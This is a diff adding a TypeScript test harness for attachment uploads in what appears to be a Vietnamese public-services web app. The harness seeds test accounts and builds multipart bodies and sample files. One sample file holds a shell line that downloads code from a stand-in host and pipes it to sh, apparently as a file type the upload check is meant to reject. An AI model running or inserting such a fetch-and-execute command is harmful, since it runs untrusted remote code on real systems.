@@ -1,0 +1,211 @@
+/**
+ * Set-up of the attachment tests: a server per dialect on a fresh database (SQLite file, or a PostgreSQL database
+ * created and dropped here) with the demo seed and a few more accounts, multipart bodies, and sample files.
+ */
+import { existsSync, readdirSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { randomBytes } from 'node:crypto';
+import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
+import { afterAll, beforeAll, describe } from 'vitest';
+import { createServer } from '../../server/http/server.ts';
+import type { Store } from '../../server/store/index.ts';
+import { createTestDb, testDialects, type Dialect, type TestDb } from '../support/db.ts';
+import { addUsers, demoPassword, FAST_HASH, seedDemoFast, signIn, T0, TestClock } from '../support/http.ts';
+
+export const COMMUNE = '000.01.01.H41';
+export const OTHER_UNIT = '000.00.15.H41';
+/** Birth registration (commune 000.01.01.H41): birth_certificate required, applicant_id optional (PDF/JPEG/PNG). */
+export const BIRTH_CODE = '1.001193';
+/** Household business: `application` takes PDF only. */
+export const BUSINESS_CODE = '2.000720';
+
+export const BIRTH_DATA = {
+  child: {
+    fullName: 'Nguyễn Minh An',
+    birthDate: '2026-11-02',
+    sex: 'male',
+    birthPlace: 'Bệnh viện Sản Nhi Nghệ An',
+  },
+  mother: { fullName: 'Trần Thị Hoa', idNumber: '040190001234' },
+  applicant: {
+    fullName: 'Trần Thị Hoa',
+    idNumber: '040190001234',
+    relationship: 'mother',
+    phone: '0912345678',
+  },
+  birthProofKind: 'birth_certificate',
+  extractCopies: 2,
+};
+
+/** Accounts besides the demo ones: a second citizen, an officer of the commune only, one of another unit only. */
+const EXTRA = [
+  { login: 'congdan2', password: 'congdan2-pass', roles: [{ unitCode: '000.00.00.H41', role: 'citizen' }] },
+  { login: 'canboxa', password: 'canboxa-pass', roles: [{ unitCode: COMMUNE, role: 'specialist' }] },
+  { login: 'canbokhac', password: 'canbokhac-pass', roles: [{ unitCode: OTHER_UNIT, role: 'specialist' }] },
+];
+
+const password = (login: string) => EXTRA.find((u) => u.login === login)?.password ?? demoPassword(login);
+
+/** Small but real-looking files: each starts with its format's signature. */
+export const SAMPLES = {
+  pdf: Buffer.concat([
+    Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj << /Type /Catalog >> endobj\n'),
+    randomBytes(3000),
+    Buffer.from('\n%%EOF\n'),
+  ]),
+  jpeg: Buffer.concat([
+    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
+    Buffer.from('JFIF\0'),
+    randomBytes(20_000),
+    Buffer.from([0xff, 0xd9]),
+  ]),
+  png: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), randomBytes(12_000)]),
+  script: Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
+};
+
+export interface FilePart {
+  name: string;
+  type?: string;
+  bytes: Buffer;
+  field?: string;
+}
+
+/** A multipart/form-data body: the fields in order, then the file. */
+export function multipart(
+  fields: Record<string, string>,
+  file?: FilePart,
+  after: Record<string, string> = {},
+) {
+  const boundary = `----motcua${randomBytes(8).toString('hex')}`;
+  const chunks: Buffer[] = [];
+  const field = (name: string, value: string) =>
+    chunks.push(
+      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
+    );
+  for (const [name, value] of Object.entries(fields)) field(name, value);
+  if (file) {
+    chunks.push(
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name}"\r\n` +
+          `Content-Type: ${file.type ?? 'application/octet-stream'}\r\n\r\n`,
+      ),
+      file.bytes,
+      Buffer.from('\r\n'),
+    );
+  }
+  for (const [name, value] of Object.entries(after)) field(name, value);
+  chunks.push(Buffer.from(`--${boundary}--\r\n`));
+  return { payload: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
+}
+
+export interface Harness {
+  dialect: Dialect;
+  app: FastifyInstance;
+  store: Store;
+  db: TestDb;
+  clock: TestClock;
+  /** The Cookie header of a signed-in account (signed in once). */
+  cookie(login: string): Promise<string>;
+  upload(
+    login: string | undefined,
+    fields: Record<string, string>,
+    file?: FilePart,
+  ): Promise<LightMyRequestResponse>;
+  download(
+    login: string | undefined,
+    id: string,
+    headers?: Record<string, string>,
+  ): Promise<LightMyRequestResponse>;
+  submit(
+    login: string,
+    body: Record<string, unknown>,
+    headers?: Record<string, string>,
+  ): Promise<LightMyRequestResponse>;
+  /** Every file under <dataDir>/files (relative paths), the spool included. */
+  storedFiles(): string[];
+  /** Attachment rows, read past the Store. */
+  rows(): Promise<Record<string, unknown>[]>;
+}
+
+function walk(dir: string, root: string): string[] {
+  if (!existsSync(dir)) return [];
+  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
+    e.isDirectory() ? walk(join(dir, e.name), root) : [relative(root, join(dir, e.name))],
+  );
+}
+
+/** Runs `body` once per dialect (PostgreSQL skipped with a notice when unreachable, unless MOTCUA_STRICT_TESTS). */
+export async function withAttachmentServer(name: string, body: (h: () => Harness) => void): Promise<void> {
+  const available = await testDialects();
+  for (const dialect of ['sqlite', 'pg'] as Dialect[]) {
+    describe.skipIf(!available.includes(dialect))(`${name} (${dialect})`, () => {
+      let harness: Harness | undefined;
+      beforeAll(async () => {
+        const db = await createTestDb(dialect);
+        const store = await db.open();
+        const clock = new TestClock(T0);
+        await seedDemoFast(store, T0 - 86_400_000);
+        await addUsers(
+          store,
+          T0,
+          EXTRA.map((u) => ({ ...u })),
+        );
+        const app = await createServer({
+          store,
+          dataDir: db.dataDir,
+          clock: clock.read,
+          passwordCost: FAST_HASH,
+        });
+        await app.ready();
+        const cookies = new Map<string, Promise<string>>();
+        const cookie = (login: string) => {
+          if (!cookies.has(login)) cookies.set(login, signIn(app, login, password(login)));
+          return cookies.get(login)!;
+        };
+        const auth = async (login: string | undefined) => (login ? { cookie: await cookie(login) } : {});
+        harness = {
+          dialect,
+          app,
+          store,
+          db,
+          clock,
+          cookie,
+          async upload(login, fields, file) {
+            const { payload, contentType } = multipart(fields, file);
+            return app.inject({
+              method: 'POST',
+              url: '/api/v1/attachments',
+              payload,
+              headers: { ...(await auth(login)), 'content-type': contentType },
+            });
+          },
+          async download(login, id, headers = {}) {
+            return app.inject({
+              method: 'GET',
+              url: `/api/v1/attachments/${id}`,
+              headers: { ...(await auth(login)), ...headers },
+            });
+          },
+          async submit(login, payload, headers = {}) {
+            return app.inject({
+              method: 'POST',
+              url: '/api/v1/dossiers',
+              payload,
+              headers: { ...(await auth(login)), ...headers },
+            });
+          },
+          storedFiles: () => walk(join(db.dataDir, 'files'), join(db.dataDir, 'files')).sort(),
+          rows: () =>
+            db.exec(
+              'select id, dossier_id, owner_id, component_id, storage_path, size, sha256 from attachments order by created_at, id',
+            ),
+        };
+      });
+      afterAll(async () => {
+        await harness?.app.close();
+        await harness?.db.drop();
+      });
+      body(() => harness!);
+    });
+  }
+}
